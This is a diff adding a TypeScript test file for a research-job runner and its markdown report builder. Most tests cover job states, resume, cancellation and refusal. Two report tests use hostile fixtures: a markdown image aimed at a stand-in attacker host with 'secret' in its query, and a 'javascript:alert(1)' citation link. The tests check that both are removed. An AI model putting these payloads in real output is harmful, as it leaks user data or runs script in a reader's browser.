@@ -1,0 +1,160 @@
+import assert from 'node:assert/strict';
+import { Failure } from '../../../../src/core/failure';
+import { readStep } from '../../../../src/core/interactions/steps';
+import type { Report, ResearchJob, ResearchStore } from '../../../../src/core/research/job';
+import { toReport, withoutRemoteContent } from '../../../../src/core/research/report';
+import { ResearchJobs } from '../../../../src/core/research/researchJobs';
+import { serverUnderTest } from '../../gemini/serverUnderTest';
+
+const agent = 'deep-research-preview-04-2026';
+
+class MemoryResearchStore implements ResearchStore {
+  readonly jobs = new Map<string, ResearchJob>();
+  readonly reports = new Map<string, Report>();
+  readonly states: string[] = [];
+
+  get mayHaveOpenJobs(): boolean {
+    return this.jobs.size > 0;
+  }
+  saveJob(job: ResearchJob): Promise<void> {
+    if (this.states.at(-1) !== job.state) this.states.push(job.state);
+    this.jobs.set(job.id, job);
+    return Promise.resolve();
+  }
+  loadJobs(): Promise<readonly ResearchJob[]> {
+    return Promise.resolve([...this.jobs.values()]);
+  }
+  saveReport(job: ResearchJob, report: Report): Promise<void> {
+    this.reports.set(job.id, report);
+    return Promise.resolve();
+  }
+}
+
+describe('ResearchJobs', () => {
+  const under = serverUnderTest({ researchMs: 30 });
+  let store: MemoryResearchStore;
+  const open: ResearchJobs[] = [];
+
+  beforeEach(() => {
+    store = new MemoryResearchStore();
+  });
+  afterEach(() => {
+    for (const jobs of open.splice(0)) jobs.dispose();
+  });
+
+  function jobs(): ResearchJobs {
+    const made = new ResearchJobs({
+      interactions: under.client,
+      store,
+      newId: () => crypto.randomUUID(),
+      now: () => Date.now(),
+      sourcesHeading: 'Sources',
+      onError: (error) => assert.fail(String(error)),
+    });
+    open.push(made);
+    return made;
+  }
+  const until = (made: ResearchJobs, state: ResearchJob['state']) =>
+    new Promise<ResearchJob>((resolve) => {
+      made.onDidChange((job) => job.state === state && resolve(job));
+    });
+
+  it('runs from the question to the report with its sources', async () => {
+    const made = jobs();
+    const done = until(made, 'done');
+    await made.start('Heat pumps in old houses', agent);
+
+    const job = await done;
+
+    assert.deepEqual(store.states, ['starting', 'running', 'done']);
+    const report = store.reports.get(job.id);
+    assert.match(report?.markdown ?? '', /^# /m);
+    assert.match(report?.markdown ?? '', /https?:\/\//);
+  });
+
+  it('goes on after a restart without starting again', async () => {
+    under.server.holdAfter(2);
+    const before = jobs();
+    await before.start('Heat pumps', agent);
+    await under.server.held();
+    before.dispose();
+
+    const after = jobs();
+    const done = until(after, 'done');
+    await after.resume();
+    under.server.release();
+    await done;
+
+    assert.equal(under.server.requests.filter((request) => request.method === 'POST').length, 1);
+    assert.equal(store.reports.size, 1);
+  });
+
+  it('counts as cancelled once the service says so', async () => {
+    under.server.holdAfter(2);
+    const made = jobs();
+    const cancelled = until(made, 'cancelled');
+    const job = await made.start('Heat pumps', agent);
+    await under.server.held();
+
+    await made.cancel(job.id);
+
+    assert.equal((await cancelled).id, job.id);
+    assert.deepEqual(store.states, ['starting', 'running', 'cancelling', 'cancelled']);
+  });
+
+  it('is uncertain, and not repeated, when the start was cut off', async () => {
+    under.server.answerNext({ drop: true });
+    const made = jobs();
+
+    await assert.rejects(made.start('Heat pumps', agent), Failure);
+
+    assert.deepEqual(store.states, ['starting', 'uncertain']);
+    assert.equal(under.server.requests.length, 1);
+  });
+
+  it('has failed when the service refused it', async () => {
+    under.server.answerNext({ status: 429, body: { error: { code: 'rate_limit_exceeded', message: '' } } });
+    const made = jobs();
+
+    await assert.rejects(made.start('Heat pumps', agent), Failure);
+
+    assert.deepEqual(store.states, ['starting', 'failed']);
+  });
+});
+
+describe('the report', () => {
+  const step = (...content: unknown[]) => readStep({ type: 'model_output', content: content as never });
+
+  it('shows pictures that came with it and turns pictures from elsewhere into links', () => {
+    const { markdown, pictures } = toReport(
+      'Q',
+      [
+        step({ type: 'text', text: '# T\n\n![chart](https://evil.example/?q=secret)\n' }),
+        step({ type: 'image', mime_type: 'image/png', data: 'AAAA' }),
+      ],
+      'Sources',
+    );
+
+    assert.deepEqual(pictures, [{ name: 'figure-1.png', data: 'AAAA' }]);
+    assert.match(markdown, /!\[\]\(figure-1\.png\)/);
+    assert.doesNotMatch(markdown, /!\[[^\]]*\]\(https?:/);
+  });
+
+  it('lists the sources it was not told in its text', () => {
+    const annotations = [
+      { type: 'url_citation', url: 'https://a.example/1', title: 'A [x]', start_index: 0, end_index: 1 },
+      { type: 'url_citation', url: 'javascript:alert(1)', title: 'B', start_index: 0, end_index: 1 },
+    ];
+    const { markdown } = toReport('Q', [step({ type: 'text', text: 'Body', annotations })], 'Sources');
+
+    assert.match(markdown, /## Sources\n\n1\. \[A \\\[x\\\]\]\(<https:\/\/a\.example\/1>\)/);
+    assert.doesNotMatch(markdown, /javascript:/);
+  });
+
+  it('keeps HTML as text and code as it is', () => {
+    assert.equal(withoutRemoteContent('a <img src=x> <https://ok.example>'), 'a &lt;img src=x> <https://ok.example>');
+    const code = '```html\n<img src=x>\n![a](b)\n```';
+    assert.equal(withoutRemoteContent(code), code);
+    assert.equal(withoutRemoteContent('``` not `a fence\n<b>'), '``` not `a fence\n&lt;b>');
+  });
+});
